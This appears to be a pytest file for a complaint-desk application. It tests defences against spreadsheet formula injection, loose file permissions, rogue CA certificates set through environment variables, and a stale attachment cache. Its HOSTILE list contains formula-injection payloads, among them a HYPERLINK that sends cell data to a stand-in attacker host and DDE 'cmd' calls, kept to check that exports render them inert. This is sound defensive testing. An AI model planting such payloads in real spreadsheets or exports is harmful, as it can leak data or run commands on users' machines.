"""Issue 12, the desk's items: formula injection in exports (5), private profile files whatever
the umask (11), no CA from SSL_CERT_FILE / SSL_CERT_DIR (12), and a cache that forgets hidden or
departed photos and stays bounded (16)."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from lapor_desk import paths
from lapor_desk.errors import TlsError
from lapor_desk.models import bulk, crypto
from lapor_desk.models.account import Account, remember_last
from lapor_desk.models.store import Store
from lapor_desk.services import exports
from lapor_desk.services.actions import DeskActions
from lapor_desk.services.templates import TemplateStore
from lapor_desk.sync import attachments, tls, transport
from lapor_desk.sync.profile_keys import open_profile_store
from tests.desk.conftest import make_snapshot
from tests.desk.test_sync_tls import agency_ca, get, other_ca, pem_file, servers  # noqa: F401

# -- 5: exports keep citizen text inert ------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
    "|calc",
]


def _row(title: str) -> tuple:
    return ("MMK-2611-00001", title, "Pengaduan", "Kesehatan", "Mimika Baru", title, "Baru",
            "Dinkes", None, None, "web", "Tidak", "Tidak")  # fmt: skip


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_never_turn_citizen_text_into_formulas(tmp_path, fmt):
    target = tmp_path / f"laporan.{fmt}"
    exports.export_rows(iter([_row(t) for t in HOSTILE]), target, fmt)
    if fmt == "csv":
        cells = [row[1] for row in exports.read_back(target)[1:]]
        villages = [row[5] for row in exports.read_back(target)[1:]]
    else:
        from openpyxl import load_workbook

        ws = load_workbook(target).active
        rows = list(ws.iter_rows(min_row=2))
        assert all(r[1].data_type == "s" and r[5].data_type == "s" for r in rows)
        cells = [r[1].value for r in rows]
        villages = [r[5].value for r in rows]
    for original, written in zip(HOSTILE, cells, strict=True):
        # (an XLSX reader gives a stored CR back as LF)
        assert written.replace("\r", "\n") == ("'" + original).replace("\r", "\n"), original
    assert villages == cells
    # Ordinary text is untouched.
    exports.export_rows(iter([_row("Jalan rusak - sudah 2 minggu")]), target, fmt)
    assert exports.read_back(target)[1][1] == "Jalan rusak - sudah 2 minggu"


def test_inert_text_for_the_recap_pdf_tables():
    for text in HOSTILE:
        assert exports.inert_text(text).startswith("'")
    assert exports.inert_text("Dinas Kesehatan") == "Dinas Kesehatan"


# -- 11: every file and folder of a profile is private, whatever the umask --------------------


@pytest.fixture
def loose_umask():
    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


def _loose(root: Path) -> list[str]:
    found = []
    for p in [root, *root.rglob("*")]:
        mode = p.stat().st_mode & 0o777
        if mode & 0o077:
            found.append(f"{p.relative_to(root)} {oct(mode)}")
    return found


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_profile_files_and_folders_are_private_whatever_the_umask(
    tmp_path, monkeypatch, loose_umask
):
    from lapor_desk.deploy.logs import remove_logging, setup_logging

    root = tmp_path / "data"
    monkeypatch.setenv("LAPOR_DESK_DATA_DIR", str(root))
    server = "https://lapor.mimikakab.go.id"
    account = Account(server, "rina", "petugas", "dinas_pupr", "Rina")
    store = open_profile_store(server, "rina")
    try:
        with store.write_conn() as conn:
            bulk.upsert_reports(conn, [make_snapshot(n) for n in range(1, 5)])
        photo = tmp_path / "foto.png"
        photo.write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(64))
        DeskActions(store, account).attach_file(photo)
        TemplateStore(store.path.parent).save("Salam", "Terima kasih {tracking_id}")
        remember_last(account)
        from lapor_desk.settings import Settings

        settings = Settings.load(
            machine_path=tmp_path / "none.toml", user_path=root / "config" / "s.json"
        )
        settings.set("language", "en")
        settings.save()  # a portable install keeps its settings inside the data folder
        log = setup_logging(directory=paths.log_dir())
        try:
            __import__("logging").getLogger("lapor_desk.test").warning("a line in the log")
        finally:
            remove_logging()
        store.backup_to(store.path.with_name("backup.sqlite3"))
    finally:
        store.close()
    assert log.exists() and (store.path.parent / "cache").is_dir()
    assert _loose(root) == []


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_a_loose_profile_of_an_older_desk_is_tightened_at_open(tmp_path, monkeypatch):
    root = tmp_path / "data"
    monkeypatch.setenv("LAPOR_DESK_DATA_DIR", str(root))
    server = "https://lapor.mimikakab.go.id"
    folder = paths.profile_dir(server, "rina")
    plain = Store.open(folder / paths.STORE_FILENAME)
    plain.close()
    (folder / "cache").mkdir()
    (folder / "cache" / "old-download").write_bytes(b"x")
    (folder / "templates.json").write_text("{}")
    for p in [root, *root.rglob("*")]:
        p.chmod(0o755 if p.is_dir() else 0o644)
    open_profile_store(server, "rina").close()
    assert _loose(folder) == []


# -- 12: SSL_CERT_FILE / SSL_CERT_DIR are not trusted ----------------------------------------


@pytest.mark.parametrize("variable", ["SSL_CERT_FILE", "SSL_CERT_DIR"])
def test_openssl_environment_cannot_make_an_untrusted_server_trusted(
    servers,  # noqa: F811
    agency_ca,  # noqa: F811
    other_ca,  # noqa: F811
    tmp_path,
    monkeypatch,
    variable,
):
    srv = servers(other_ca.issue_cert("127.0.0.1"))
    rogue = pem_file(tmp_path, "rogue.pem", other_ca.cert_pem)
    if variable == "SSL_CERT_FILE":
        monkeypatch.setenv(variable, rogue)
    else:
        if shutil.which("openssl") is None:
            pytest.skip("openssl command needed to hash a CA directory")
        folder = tmp_path / "certs"
        folder.mkdir()
        shutil.copy(rogue, folder / "rogue.pem")
        subprocess.run(["openssl", "rehash", str(folder)], check=True)
        monkeypatch.setenv(variable, str(folder))
    monkeypatch.setattr(tls, "_contexts", {})  # no context built before the variable
    for configured in (None, pem_file(tmp_path, "agency.pem", agency_ca.cert_pem)):
        with pytest.raises(TlsError) as exc:
            get(srv.url, configured)
        assert exc.value.reason == "unknown_ca"


def test_the_os_store_and_the_configured_ca_still_work(
    servers,  # noqa: F811
    agency_ca,  # noqa: F811
    tmp_path,
    monkeypatch,
):
    monkeypatch.setenv("SSL_CERT_FILE", str(tmp_path / "missing.pem"))
    monkeypatch.setattr(tls, "_contexts", {})
    ctx = transport.make_ssl_context(None)
    assert ctx.cert_store_stats()["x509_ca"] > 0 or ctx.get_ca_certs() or os.name != "posix"
    srv = servers(agency_ca.issue_cert("127.0.0.1"))
    assert get(srv.url, pem_file(tmp_path, "agency.pem", agency_ca.cert_pem)) == {"status": "ok"}


# -- 16: the attachment cache forgets what the desk may no longer show, and is bounded ---------


def _cache(store: Store, report_id: str, data: bytes, *, hidden: bool = False) -> str:
    sha = hashlib.sha256(data).hexdigest()
    path = attachments.keep_bytes(store, sha, data)
    with store.write_conn() as conn:
        conn.exec_driver_sql(
            "INSERT INTO attachments(report_id, sha256, filename, media_type, size, cache_path,"
            " hidden_from_agency) VALUES (?, ?, 'f.png', 'image/png', ?, ?, ?)",
            (report_id, sha, len(data), str(path), int(hidden)),
        )
    return sha


def test_hidden_and_departed_photos_leave_the_cache_and_it_stays_bounded(tmp_path):
    store = Store.open(tmp_path / "profile" / "queue.sqlite3", key=crypto.new_key())
    try:
        with store.write_conn() as conn:
            bulk.upsert_reports(conn, [make_snapshot(n) for n in range(1, 4)])
        kept = _cache(store, "r000001", b"visible" * 100)
        hidden = _cache(store, "r000002", b"hidden" * 100, hidden=True)
        departed = _cache(store, "r000003", b"departed" * 100)
        with store.write_conn() as conn:  # the report left the OPD (a tombstone in the feed)
            conn.exec_driver_sql("DELETE FROM reports WHERE id = 'r000003'")
        cache = store.path.parent / "cache"
        assert len(list(cache.iterdir())) == 3
        # A coordinator may see the hidden photo; the OPD's desk forgets it.
        attachments.prune_cache(store, show_hidden=True)
        assert attachments.read_cached(store, hidden) is not None
        assert attachments.read_cached(store, departed) is None
        result = attachments.prune_cache(store, show_hidden=False)
        assert attachments.read_cached(store, hidden) is None
        assert attachments.read_cached(store, kept) is not None
        assert len(list(cache.iterdir())) == 1 and result.removed == 1
        # Bounded: beyond the limit the least recently opened go first; uploads never.
        olds = [_cache(store, "r000001", os.urandom(1000)) for _ in range(3)]
        past = time.time() - 3600
        for sha in olds:
            os.utime(attachments.cached_path(store, sha), (past, past))
        src = tmp_path / "lampiran.png"
        src.write_bytes(os.urandom(5000))
        account = Account("https://lapor.test", "rina", "petugas", "dinas_pupr")
        upload = DeskActions(store, account).attach_file(src).sha256
        attachments.read_cached(store, kept)  # just opened
        result = attachments.prune_cache(store, show_hidden=False, limit=6000)
        assert result.evicted == 3
        assert all(attachments.read_cached(store, sha) is None for sha in olds)
        assert attachments.read_cached(store, upload) is not None
        assert attachments.read_cached(store, kept) is not None
    finally:
        store.close()
